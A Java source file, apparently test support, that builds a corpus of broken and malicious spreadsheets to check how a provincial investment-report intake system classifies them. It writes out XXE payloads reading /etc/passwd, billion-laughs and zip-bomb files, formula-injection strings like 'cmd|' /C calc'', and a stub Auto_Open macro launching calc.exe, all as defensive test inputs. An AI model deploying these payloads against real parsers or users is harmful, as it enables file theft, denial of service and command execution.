package vn.lienket.robustness;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

import org.apache.poi.hssf.record.crypto.Biff8EncryptionKey;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackageAccess;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.crypt.HashAlgorithm;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import vn.lienket.domain.ProvinceId;
import vn.lienket.domain.Quarter;
import vn.lienket.robustness.CorpusCase.StoredValue;
import vn.lienket.workbook.testing.Formula;
import vn.lienket.workbook.testing.HostileFiles;
import vn.lienket.testsupport.PinnedClock;
import vn.lienket.workbook.testing.WorkbookFixtures;
import vn.lienket.workbook.testing.ZipEdit;

import static vn.lienket.robustness.ExpectedVerdict.ALREADY_LOADED;
import static vn.lienket.robustness.ExpectedVerdict.INVALID;
import static vn.lienket.robustness.ExpectedVerdict.UNREADABLE;
import static vn.lienket.robustness.ExpectedVerdict.VALID;

/**
 * Writes the hostile corpus: broken, malicious and merely unusual files as provincial offices and
 * their tools produce them, nearly all variants of Lâm Đồng's valid 2026-Q1 workbook
 * ({@link WorkbookFixtures#valid()}), each with the verdict the intake must give.
 */
final class HostileCorpus {

    /** Rows of the largest case; Excel's own limit is 1,048,576 rows a sheet. */
    static final int MILLION = 1_000_000;

    private static final String CAPITAL = "Vốn đăng ký (tỷ đồng)";
    private static final String PROJECT_SHEET = "DuAn";
    private static final String PROJECT_NAME = "Tên dự án";
    private static final String FIRST_PROJECT = "SELECT %s FROM fact_investment_snapshot WHERE submission_id = :id AND source_row = 2";

    private final Path directory;
    private final RequestTrap trap;
    private final List<CorpusCase> cases = new ArrayList<>();
    private int fixtureCount;

    private HostileCorpus(Path directory, RequestTrap trap) {
        this.directory = directory;
        this.trap = trap;
    }

    /**
     * Writes every case into {@code directory}; the million-row file is made once and reused from {@code cache}
     * (under target/, so {@code clean} or deleting it regenerates the file after a change to {@link LargeWorkbook});
     * external entities of the http:// kind point at {@code trap}.
     */
    static List<CorpusCase> write(Path directory, Path cache, RequestTrap trap) throws IOException {
        HostileCorpus corpus = new HostileCorpus(Files.createDirectories(directory), trap);
        corpus.wellFormed();
        corpus.notWorkbooks();
        corpus.damagedPackages();
        corpus.maliciousXml();
        corpus.externalEntitiesInEveryPart();
        corpus.protectionAndMacros();
        corpus.sheets();
        corpus.sizes(cache);
        corpus.formulas();
        corpus.hostileText();
        corpus.datesAndNumbers();
        corpus.coverAndArrival();
        return List.copyOf(corpus.cases);
    }

    private void wellFormed() {
        add("valid.xlsx", "Lâm Đồng's valid 2026-Q1 workbook (.xlsx)", VALID, null,
                xlsx(WorkbookFixtures.valid()), stored("SELECT count(*) FROM fact_investment_snapshot WHERE submission_id = :id", "3"));
        add("valid.xls", "the same workbook saved as Excel 97–2003 (.xls)", VALID, null,
                WorkbookFixtures.valid().writeXls(fixtureDirectory()));
    }

    private void notWorkbooks() throws IOException {
        add("empty.xlsx", "an empty file (0 bytes)", UNREADABLE, "EMPTY", Files.write(directory.resolve("empty.xlsx"), new byte[0]));
        add("csv-renamed.xlsx", "a CSV export renamed .xlsx", UNREADABLE, "NOT_EXCEL",
                Files.writeString(directory.resolve("csv-renamed.xlsx"), "Mã dự án;Tên dự án;Vốn đăng ký\nLD-001;Khu du lịch;1.250,5\n"));
        add("pdf-renamed.xlsx", "a PDF renamed .xlsx", UNREADABLE, "NOT_EXCEL",
                Files.writeString(directory.resolve("pdf-renamed.xlsx"), "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
                        StandardCharsets.ISO_8859_1));
        add("html-renamed.xls", "an HTML table saved by a web portal as .xls", UNREADABLE, "NOT_EXCEL",
                Files.writeString(directory.resolve("html-renamed.xls"),
                        "<html><body><table><tr><td>Mã dự án</td><td>LD-001</td></tr></table></body></html>"));
        add("docx-renamed.xlsx", "a Word document (.docx) renamed .xlsx", UNREADABLE, "NOT_EXCEL", ZipEdit.empty()
                .put("[Content_Types].xml", contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "/word/document.xml"))
                .put("_rels/.rels", rootRelationships("word/document.xml"))
                .put("word/document.xml", "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body/></w:document>")
                .write(directory.resolve("docx-renamed.xlsx")));
        add("excel95.xls", "an Excel 5.0/95 workbook (BIFF5)", UNREADABLE, "OLD_FORMAT",
                HostileFiles.excel95(directory.resolve("excel95.xls")));
        add("binary.xlsb", "an Excel binary workbook (.xlsb)", UNREADABLE, "NOT_EXCEL", ZipEdit.empty()
                .put("[Content_Types].xml", contentTypes("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "/xl/workbook.bin"))
                .put("_rels/.rels", rootRelationships("xl/workbook.bin"))
                .put("xl/workbook.bin", new byte[] {(byte) 0x83, 0x01, 0x00, (byte) 0x80, 0x01, 0x00})
                .write(directory.resolve("binary.xlsb")));
    }

    private void damagedPackages() throws IOException {
        byte[] whole = Files.readAllBytes(xlsx(WorkbookFixtures.valid()));
        add("truncated.xlsx", "a download cut off half-way (truncated zip)", UNREADABLE, "CORRUPT",
                Files.write(directory.resolve("truncated.xlsx"), Arrays.copyOf(whole, whole.length / 2)));
        add("zero-byte-sheet.xlsx", "the project sheet's XML part is 0 bytes", UNREADABLE, "CORRUPT",
                edited("zero-byte-sheet.xlsx", zip -> zip.put(zip.sheetPart(PROJECT_SHEET), new byte[0])));
        add("malformed-sheet.xlsx", "the project sheet's XML breaks off mid-element", UNREADABLE, "CORRUPT",
                edited("malformed-sheet.xlsx", zip -> zip.edit(zip.sheetPart(PROJECT_SHEET),
                        xml -> xml.substring(0, xml.indexOf("<row r=\"3\"") + 12))));
        add("zip-bomb.xlsx", "a zip bomb: 64 MB of sheet XML deflated to about 64 KB (ratio 1:1000)", UNREADABLE, "ZIP_BOMB",
                edited("zip-bomb.xlsx", zip -> zip.edit(zip.sheetPart(PROJECT_SHEET),
                        xml -> xml.replace("<sheetData>", "<sheetData>" + " ".repeat(64 * 1024 * 1024)))));
        String projectPart = ZipEdit.of(xlsx(WorkbookFixtures.valid())).sheetPart(PROJECT_SHEET);
        add("lying-zip-bomb.xlsx", "the same zip bomb, its zip directory claiming the sheet is no bigger than compressed",
                UNREADABLE, "ZIP_BOMB", HostileFiles.understateSize(edited("lying-zip-bomb.xlsx", zip -> zip.edit(projectPart,
                        xml -> xml.replace("<sheetData>", "<sheetData>" + " ".repeat(64 * 1024 * 1024)))), projectPart));
    }

    private void maliciousXml() {
        String xxe = "<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
        add("xxe-sheet.xlsx", "an XML external entity (file:///etc/passwd) in the sheet XML", UNREADABLE, "CORRUPT",
                edited("xxe-sheet.xlsx", zip -> zip.edit(zip.sheetPart(PROJECT_SHEET),
                        xml -> inlineProjectName(withDoctype(xml, xxe), "&xxe;"))));
        add("xxe-shared-strings.xlsx", "an XML external entity in the shared strings", UNREADABLE, "CORRUPT",
                edited("xxe-shared-strings.xlsx", zip -> zip.edit("xl/sharedStrings.xml",
                        xml -> withDoctype(xml, xxe.replace("worksheet", "sst")).replace("Khu du lịch sinh thái Đạ Sar", "&xxe;"))));
        StringBuilder laughs = new StringBuilder("<!DOCTYPE worksheet [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            laughs.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        String billionLaughs = laughs.append("]>").toString();
        add("billion-laughs-sheet.xlsx", "billion laughs (10⁹ nested entities) in the sheet XML", UNREADABLE, "CORRUPT",
                edited("billion-laughs-sheet.xlsx", zip -> zip.edit(zip.sheetPart(PROJECT_SHEET),
                        xml -> inlineProjectName(withDoctype(xml, billionLaughs), "&lol9;"))));
        add("billion-laughs-workbook.xlsx", "billion laughs in the workbook part (sheet names)", UNREADABLE, "CORRUPT",
                edited("billion-laughs-workbook.xlsx", zip -> zip.edit("xl/workbook.xml",
                        xml -> withDoctype(xml, billionLaughs.replace("worksheet", "workbook")).replace("name=\"SuKien\"", "name=\"&lol9;\""))));
    }

    /**
     * Issue #17: external entities in every part a reader may parse (POI parses the content types, the
     * relationships and the document properties; Liên kết's own reader the workbook, shared strings,
     * sheets and, for the annotated copy, styles), and entities that fetch from an http:// address:
     * {@link RequestTrap} must receive no request.
     */
    private void externalEntitiesInEveryPart() {
        String file = "<!DOCTYPE %s [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
        add("xxe-content-types.xlsx", "an XML external entity (file:///etc/passwd) in [Content_Types].xml", UNREADABLE, "CORRUPT",
                edited("xxe-content-types.xlsx", zip -> zip.edit("[Content_Types].xml",
                        xml -> withDoctype(xml, String.format(file, "Types")).replace("<Default ", "&xxe;<Default "))));
        add("xxe-relationships.xlsx", "an XML external entity in the workbook's relationships", UNREADABLE, "CORRUPT",
                edited("xxe-relationships.xlsx", zip -> zip.edit("xl/_rels/workbook.xml.rels",
                        xml -> withDoctype(xml, String.format(file, "Relationships")).replace("<Relationship ", "&xxe;<Relationship "))));
        add("xxe-styles.xlsx", "an XML external entity in the styles (read only for the annotated copy)", VALID, null,
                edited("xxe-styles.xlsx", zip -> zip.edit("xl/styles.xml",
                        xml -> withDoctype(xml, String.format(file, "styleSheet")).replace("<fonts", "&xxe;<fonts"))),
                stored("SELECT count(*) FROM fact_investment_snapshot WHERE submission_id = :id", "3"));
        add("xxe-docprops.xlsx", "an XML external entity in the document properties (docProps/core.xml, which POI refuses to parse "
                        + "and Liên kết never needs)", VALID, null,
                edited("xxe-docprops.xlsx", zip -> zip.edit("docProps/core.xml",
                        xml -> withDoctype(xml, String.format(file, "cp:coreProperties")).replace("<dc:creator>", "<dc:creator>&xxe;"))),
                stored("SELECT count(*) FROM fact_investment_snapshot WHERE submission_id = :id", "3"));
        String http = "<!DOCTYPE %s SYSTEM \"" + trap.url("dtd") + "\" [<!ENTITY %% remote SYSTEM \"" + trap.url("parameter")
                + "\"> %%remote; <!ENTITY fetched SYSTEM \"" + trap.url("entity") + "\">]>";
        add("xxe-http-sheet.xlsx", "an external DTD, parameter entity and entity at an http:// address in the sheet XML", UNREADABLE,
                "CORRUPT", edited("xxe-http-sheet.xlsx", zip -> zip.edit(zip.sheetPart(PROJECT_SHEET),
                        xml -> inlineProjectName(withDoctype(xml, String.format(http, "worksheet")), "&fetched;"))));
        add("xxe-http-content-types.xlsx", "the same http:// entities in [Content_Types].xml", UNREADABLE, "CORRUPT",
                edited("xxe-http-content-types.xlsx", zip -> zip.edit("[Content_Types].xml",
                        xml -> withDoctype(xml, String.format(http, "Types")).replace("<Default ", "&fetched;<Default "))));
        add("xxe-http-docprops.xlsx", "the same http:// entities in docProps/core.xml", VALID, null,
                edited("xxe-http-docprops.xlsx", zip -> zip.edit("docProps/core.xml",
                        xml -> withDoctype(xml, String.format(http, "cp:coreProperties")).replace("<dc:creator>", "<dc:creator>&fetched;"))),
                stored("SELECT count(*) FROM fact_investment_snapshot WHERE submission_id = :id", "3"));
    }

    private void protectionAndMacros() throws IOException {
        add("encrypted.xlsx", "a password-protected (encrypted) .xlsx", UNREADABLE, "ENCRYPTED", encryptedXlsx());
        add("encrypted.xls", "a password-protected (RC4) .xls", UNREADABLE, "ENCRYPTED", encryptedXls());
        add("protected-sheets.xlsx", "every sheet protected against editing", VALID, null,
                poiEdited("protected-sheets.xlsx", workbook -> workbook.forEach(sheet -> sheet.protectSheet("khoa"))));
        add("protected-structure.xlsx", "workbook structure locked with a password", VALID, null,
                poiEdited("protected-structure.xlsx", workbook -> {
                    workbook.lockStructure();
                    workbook.setWorkbookPassword("khoa", HashAlgorithm.sha512);
                }));
        add("macros.xlsm", "a macro-enabled workbook (.xlsm) carrying a VBA project (never run; the annotated copy is a plain .xlsx)",
                VALID, "WORKBOOK_MACROS", ZipEdit.of(xlsx(WorkbookFixtures.valid()))
                .edit("[Content_Types].xml", types -> types
                        .replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                        .replace("<Default ", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Default "))
                .edit("xl/_rels/workbook.xml.rels", rels -> rels.replace("</Relationships>",
                        "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>"))
                .put("xl/vbaProject.bin", vbaProject())
                .write(directory.resolve("macros.xlsm")));
    }

    private void sheets() {
        add("hidden-sheet.xlsx", "the project sheet hidden", VALID, null,
                poiEdited("hidden-sheet.xlsx", workbook -> workbook.setSheetHidden(workbook.getSheetIndex(PROJECT_SHEET), true)));
        add("very-hidden-sheet.xlsx", "an extra very hidden sheet", VALID, "SHEET_UNKNOWN",
                poiEdited("very-hidden-sheet.xlsx", workbook -> {
                    workbook.createSheet("CauHinh").createRow(0).createCell(0).setCellValue("bí mật");
                    workbook.setSheetVisibility(workbook.getSheetIndex("CauHinh"), SheetVisibility.VERY_HIDDEN);
                }));
        add("missing-sheet.xlsx", "the OCOP sheet missing", INVALID, "SHEET_MISSING", xlsx(WorkbookFixtures.valid().removeSheet("OCOP")));
        WorkbookFixtures twin = WorkbookFixtures.valid();
        twin.sheet("DuAnX", twin.rows(PROJECT_SHEET).toArray(List[]::new));
        twin.set("DuAnX", 2, CAPITAL, 9999);
        add("sheet-names-differ-in-case.xlsx", "two sheets named DuAn and DUAN with different figures", INVALID, "SHEET_DUPLICATE",
                edited("sheet-names-differ-in-case.xlsx", xlsx(twin),
                        zip -> zip.edit("xl/workbook.xml", xml -> xml.replace("name=\"DuAnX\"", "name=\"DUAN\""))));
    }

    private void sizes(Path cache) throws IOException {
        WorkbookFixtures wide = WorkbookFixtures.valid();
        List<Object> header = wide.rows(PROJECT_SHEET).get(0);
        List<Object> firstRow = wide.rows(PROJECT_SHEET).get(1);
        for (int column = header.size(); column < 16_384; column++) {
            header.add("Cột phụ " + (column + 1));
        }
        while (firstRow.size() < 16_384) {
            firstRow.add(firstRow.size());
        }
        add("columns-16384.xlsx", "16,384 columns (Excel's maximum), all filled in the first project's row", VALID, "COLUMN_UNKNOWN",
                xlsx(wide), stored("SELECT count(*) FROM fact_investment_snapshot WHERE submission_id = :id", "3"));
        add("rows-1m.xlsx", String.format("%,d project rows (streamed)", MILLION), VALID, null, millionRows(cache),
                stored("SELECT count(*) FROM fact_investment_snapshot WHERE submission_id = :id", String.valueOf(MILLION)));
        String longName = "Dự án mở rộng khu du lịch sinh thái Đạ Sar ".repeat(800).substring(0, 32_767);
        add("cell-32767-chars.xlsx", "a project name of 32,767 characters (Excel's cell maximum)", VALID, null,
                xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, PROJECT_NAME, longName)),
                stored(String.format(FIRST_PROJECT, "length(project_name)"), "32767"));
        add("code-32767-chars.xlsx", "a project code of 32,767 characters", INVALID, "VALUE_TOO_LONG",
                xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, "Mã dự án", "LD-".repeat(10_922) + "X")));
        add("nested-zip-bomb.xlsx", "an embedded zip of zip bombs (42.zip style: 10 zips of 64 MB of zeros each), never opened",
                VALID, null, edited("nested-zip-bomb.xlsx", zip -> zip
                        .edit("[Content_Types].xml", types -> types.replace("<Default ",
                                "<Default Extension=\"zip\" ContentType=\"application/zip\"/><Default "))
                        .put("xl/embeddings/package1.zip", nestedZipBomb())),
                stored("SELECT count(*) FROM fact_investment_snapshot WHERE submission_id = :id", "3"));
        add("report-explosion.xlsx", "one 32,000-character shared string in two number columns of 20,000 rows (0.4 MB): "
                        + "the report it made was about 1 GB", INVALID, "VALUE_NOT_NUMBER", reportExplosion());
        add("cell-40000-chars.xlsx", "a shared string of 40,000 characters, more than Excel can hold in a cell", UNREADABLE, "TOO_LARGE",
                edited("cell-40000-chars.xlsx", zip -> zip.edit("xl/sharedStrings.xml",
                        xml -> xml.replace("Khu du lịch sinh thái Đạ Sar", "x".repeat(40_000)))));
        add("capital-1e20.xlsx", "a registered capital of 10²⁰ billion VND (beyond any column)", INVALID, "VALUE_ABOVE_MAX",
                xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, CAPITAL, 1e20)));
    }

    private void formulas() {
        add("formula-ref-error.xlsx", "a capital computed by a formula whose cached value is #REF!", INVALID, "VALUE_FORMULA_ERROR",
                xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, CAPITAL, new Formula("INDEX(A1:A2,5)"))));
        add("formula-div0.xlsx", "a capital formula whose cached value is #DIV/0!", INVALID, "VALUE_FORMULA_ERROR",
                xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, CAPITAL, new Formula("1/0"))));
        add("formula-no-cached-value.xlsx", "a capital formula saved without a cached value (never calculated)", INVALID, "VALUE_REQUIRED",
                edited("formula-no-cached-value.xlsx", xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, CAPITAL, new Formula("400+850.5"))),
                        zip -> zip.edit(zip.sheetPart(PROJECT_SHEET), xml -> xml.replaceAll("(<f>400\\+850\\.5</f>)<v>[^<]*</v>", "$1"))));
        add("external-link.xlsx", "a capital linked to another workbook ([1]Sheet1!$A$1, file:///C:/…), cached 1250.5", VALID, null,
                edited("external-link.xlsx", zip -> zip
                        .edit(zip.sheetPart(PROJECT_SHEET), xml -> xml.replaceFirst("(<c r=\"F2\"[^>]*>)<v>", "$1<f>[1]Sheet1!\\$A\\$1</f><v>"))
                        .edit("xl/_rels/workbook.xml.rels", rels -> rels.replace("</Relationships>",
                                "<Relationship Id=\"rIdExt\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\" Target=\"externalLinks/externalLink1.xml\"/></Relationships>"))
                        .put("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><externalBook r:id=\"rId1\"><sheetNames><sheetName val=\"Sheet1\"/></sheetNames></externalBook></externalLink>")
                        .put("xl/externalLinks/_rels/externalLink1.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\" Target=\"file:///C:/bimat/von.xlsx\" TargetMode=\"External\"/></Relationships>")),
                stored(String.format(FIRST_PROJECT, "registered_capital_bn::text"), "1250.500"));
        for (String injection : List.of("=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Xem\")", "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")) {
            String id = "injection-" + switch (injection.charAt(0)) {
                case '=' -> "equals";
                case '+' -> "plus";
                case '-' -> "minus";
                default -> "at";
            } + ".xlsx";
            add(id, "a project name beginning with '" + injection.charAt(0) + "' (formula injection when exported): " + injection,
                    VALID, null, xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, PROJECT_NAME, injection)),
                    stored(String.format(FIRST_PROJECT, "project_name"), injection));
        }
    }

    private void hostileText() {
        String nfd = Normalizer.normalize("Khu du lịch sinh thái Đạ Sar", Normalizer.Form.NFD);
        add("nfd-text.xlsx", "names in decomposed Unicode (NFD), as macOS tools save them", VALID, null,
                xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, PROJECT_NAME, nfd)
                        .cover("Tỉnh/thành phố", Normalizer.normalize("Lâm Đồng", Normalizer.Form.NFD))),
                stored(String.format(FIRST_PROJECT, "project_name"), "Khu du lịch sinh thái Đạ Sar"));
        add("zero-width.xlsx", "zero-width space and BOM inside the project code and name", VALID, null,
                xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, "Mã dự án", "LD-\u200B001\uFEFF")
                        .set(PROJECT_SHEET, 2, PROJECT_NAME, "Khu du lịch\u200B sinh thái Đạ Sar")),
                stored(String.format(FIRST_PROJECT, "project_code"), "LD-001"));
        add("control-characters.xlsx", "NUL, BEL and escape characters inside a project name (saved as _x0000_ escapes)", VALID, null,
                xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, PROJECT_NAME, "Khu du lịch\u0000 sinh thái\u0007 Đạ Sar\u001B")),
                stored(String.format(FIRST_PROJECT, "(project_name ~ '[[:cntrl:]]')::text"), "false"));
        add("tcvn3-text.xlsx", "investor and status typed in the TCVN3 (ABC) font encoding", VALID, "TEXT_TCVN3_CONVERTED",
                xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, "Nhà đầu tư", "C«ng ty CP Du lÞch Sµi Gßn")
                        .set(PROJECT_SHEET, 3, "Tình trạng", "§ang triÓn khai")),
                stored(String.format(FIRST_PROJECT, "investor"), "Công ty CP Du lịch Sài Gòn"));
    }

    private void datesAndNumbers() {
        add("date-before-1900.xlsx", "a licence date typed as text 15/03/1899, before Excel's calendar begins", INVALID,
                "DATE_BEFORE_1900", xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, "Ngày cấp phép", "15/03/1899")));
        add("date-1904.xlsx", "dates in the 1904 date system (old Mac Excel)", VALID, null,
                poiEdited("date-1904.xlsx", HostileCorpus::switchTo1904),
                stored(String.format(FIRST_PROJECT, "licensed_on::text"), "2019-03-15"));
        for (String[] number : List.of(new String[] {"vi", "1.250,5", "Vietnamese (1.250,5)"},
                new String[] {"en", "1,250.5", "English (1,250.5)"}, new String[] {"fr", "1 250,5", "French (1 250,5)"})) {
            add("number-" + number[0] + ".xlsx", "a capital typed as text in " + number[2] + " format", VALID, null,
                    xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 2, CAPITAL, number[1])),
                    stored(String.format(FIRST_PROJECT, "registered_capital_bn::text"), "1250.500"));
        }
    }

    private void coverAndArrival() throws IOException {
        add("province-wrong-era.xlsx", "a 2026-Q1 cover naming Lâm Đồng by its pre-merger code P63:68", INVALID, "PROVINCE_MERGED",
                xlsx(WorkbookFixtures.valid().cover("Tỉnh/thành phố", "P63:68")));
        Quarter future = Quarter.containing(PinnedClock.today()).next();
        add("quarter-in-future.xlsx", "a report for " + future + ", a quarter that has not begun", INVALID, "COVER_QUARTER_IN_FUTURE",
                xlsx(WorkbookFixtures.valid().cover("Kỳ báo cáo", future.toString())));
        add("duplicate-of-current.xlsx", "the exact bytes of number-fr.xlsx, Lâm Đồng's current version, sent again under "
                + "another name", ALREADY_LOADED, null,
                Files.copy(directory.resolve("number-fr.xlsx"), directory.resolve("duplicate-of-current.xlsx")));
        add("superseded-sent-again.xlsx", "the exact bytes of valid.xlsx, superseded since by later files, sent again: "
                + "current again", VALID, null,
                Files.copy(directory.resolve("valid.xlsx"), directory.resolve("superseded-sent-again.xlsx")));
        for (String part : List.of("a", "b")) {
            cases.add(new CorpusCase("at-once-" + part + ".xlsx",
                    "one of two different files for Lâm Đồng 2026-Q1 arriving at the same moment", VALID, null,
                    move(xlsx(WorkbookFixtures.valid().set(PROJECT_SHEET, 3, CAPITAL, part.equals("a") ? 421 : 422)),
                            "at-once-" + part + ".xlsx"),
                    "at-once", List.of()));
        }
    }

    /** Issue #18's crafted file: every problem of its 40,000 used to carry the 32,000 characters three times. */
    private Path reportExplosion() {
        return edited("report-explosion.xlsx", zip -> {
            int huge = zip.text("xl/sharedStrings.xml").split("<si>", -1).length - 1;
            StringBuilder rows = new StringBuilder();
            for (int r = 5; r < 20_005; r++) {
                rows.append("<row r=\"").append(r).append("\"><c r=\"A").append(r).append("\"><v>").append(r).append("</v></c>")
                        .append("<c r=\"B").append(r).append("\" t=\"inlineStr\"><is><t>LD-").append(r).append("</t></is></c>")
                        .append("<c r=\"F").append(r).append("\" t=\"s\"><v>").append(huge).append("</v></c>")
                        .append("<c r=\"G").append(r).append("\" t=\"s\"><v>").append(huge).append("</v></c></row>");
            }
            zip.edit("xl/sharedStrings.xml", xml -> xml.replace("</sst>", "<si><t>" + "x".repeat(32_000) + "</t></si></sst>"))
                    .edit(zip.sheetPart(PROJECT_SHEET), xml -> xml.replace("</sheetData>", rows + "</sheetData>"));
        });
    }

    /** A zip of ten zips, each holding 64 MB of zeros deflated: nothing in Liên kết ever opens an embedded part. */
    private static byte[] nestedZipBomb() {
        ZipEdit outer = ZipEdit.empty();
        byte[] zeros = new byte[64 * 1024 * 1024];
        byte[] inner = ZipEdit.empty().put("zeros.bin", zeros).bytes();
        for (int i = 0; i < 10; i++) {
            outer.put("bomb" + i + ".zip", inner);
        }
        return outer.bytes();
    }

    private Path millionRows(Path cache) throws IOException {
        Path file = cache.resolve("rows-1m.xlsx");
        if (Files.exists(file)) {
            return Files.copy(file, directory.resolve("rows-1m.xlsx"));
        }
        Path partial = LargeWorkbook.write(cache.resolve("rows-1m.xlsx.part"), new ProvinceId("P34", "66"), "Đắk Lắk", MILLION);
        Files.move(partial, file);
        return Files.copy(file, directory.resolve("rows-1m.xlsx"));
    }

    /** Moves the workbook to the 1904 date system, rewriting every date so that it still means the same day. */
    private static void switchTo1904(XSSFWorkbook workbook) {
        Map<Cell, LocalDateTime> dates = new LinkedHashMap<>();
        workbook.forEach(sheet -> sheet.forEach(row -> row.forEach(cell -> {
            if (cell.getCellType() == CellType.NUMERIC && DateUtil.isCellDateFormatted(cell)) {
                dates.put(cell, cell.getLocalDateTimeCellValue());
            }
        })));
        (workbook.getCTWorkbook().isSetWorkbookPr() ? workbook.getCTWorkbook().getWorkbookPr()
                : workbook.getCTWorkbook().addNewWorkbookPr()).setDate1904(true);
        dates.forEach(Cell::setCellValue);
    }

    private Path encryptedXlsx() throws IOException {
        Path plain = xlsx(WorkbookFixtures.valid());
        Path encrypted = directory.resolve("encrypted.xlsx");
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("bimat");
            try (OPCPackage opc = OPCPackage.open(plain.toFile(), PackageAccess.READ_WRITE);
                 OutputStream out = encryptor.getDataStream(fs)) {
                opc.save(out);
            } catch (org.apache.poi.openxml4j.exceptions.InvalidFormatException | java.security.GeneralSecurityException e) {
                throw new IOException(e);
            }
            try (OutputStream out = Files.newOutputStream(encrypted)) {
                fs.writeFilesystem(out);
            }
        }
        return encrypted;
    }

    private Path encryptedXls() throws IOException {
        Path plain = WorkbookFixtures.valid().writeXls(fixtureDirectory());
        Path encrypted = directory.resolve("encrypted.xls");
        try (InputStream in = Files.newInputStream(plain); HSSFWorkbook workbook = new HSSFWorkbook(in);
             OutputStream out = Files.newOutputStream(encrypted)) {
            Biff8EncryptionKey.setCurrentUserPassword("bimat");
            workbook.write(out);
        } finally {
            Biff8EncryptionKey.setCurrentUserPassword(null);
        }
        return encrypted;
    }

    /** An OLE2 container shaped like a VBA project: its contents are never run or even parsed. */
    private static byte[] vbaProject() {
        try (POIFSFileSystem fs = new POIFSFileSystem(); var out = new java.io.ByteArrayOutputStream()) {
            fs.createDirectory("VBA").createDocument("Module1",
                    new java.io.ByteArrayInputStream("Sub Auto_Open()\n  Shell \"calc.exe\"\nEnd Sub\n".getBytes(StandardCharsets.US_ASCII)));
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String withDoctype(String xml, String doctype) {
        int afterDeclaration = xml.startsWith("<?xml") ? xml.indexOf("?>") + 2 : 0;
        return xml.substring(0, afterDeclaration) + doctype + xml.substring(afterDeclaration);
    }

    private static String inlineProjectName(String sheetXml, String content) {
        return sheetXml.replaceFirst("<c r=\"C2\"[^>]*>.*?</c>", "<c r=\"C2\" t=\"inlineStr\"><is><t>" + content + "</t></is></c>");
    }

    private static String contentTypes(String mainType, String mainPart) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"" + mainPart + "\" ContentType=\"" + mainType + "\"/></Types>";
    }

    private static String rootRelationships(String mainPart) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\""
                + mainPart + "\"/></Relationships>";
    }

    private void add(String id, String input, ExpectedVerdict expected, String code, Path file, StoredValue... stored) {
        Path named = file.getFileName().toString().equals(id) ? file : move(file, id);
        cases.add(new CorpusCase(id, input, expected, code, named, id, List.of(stored)));
    }


    private static StoredValue stored(String sql, String expected) {
        return new StoredValue(sql, expected);
    }

    private Path xlsx(WorkbookFixtures fixtures) {
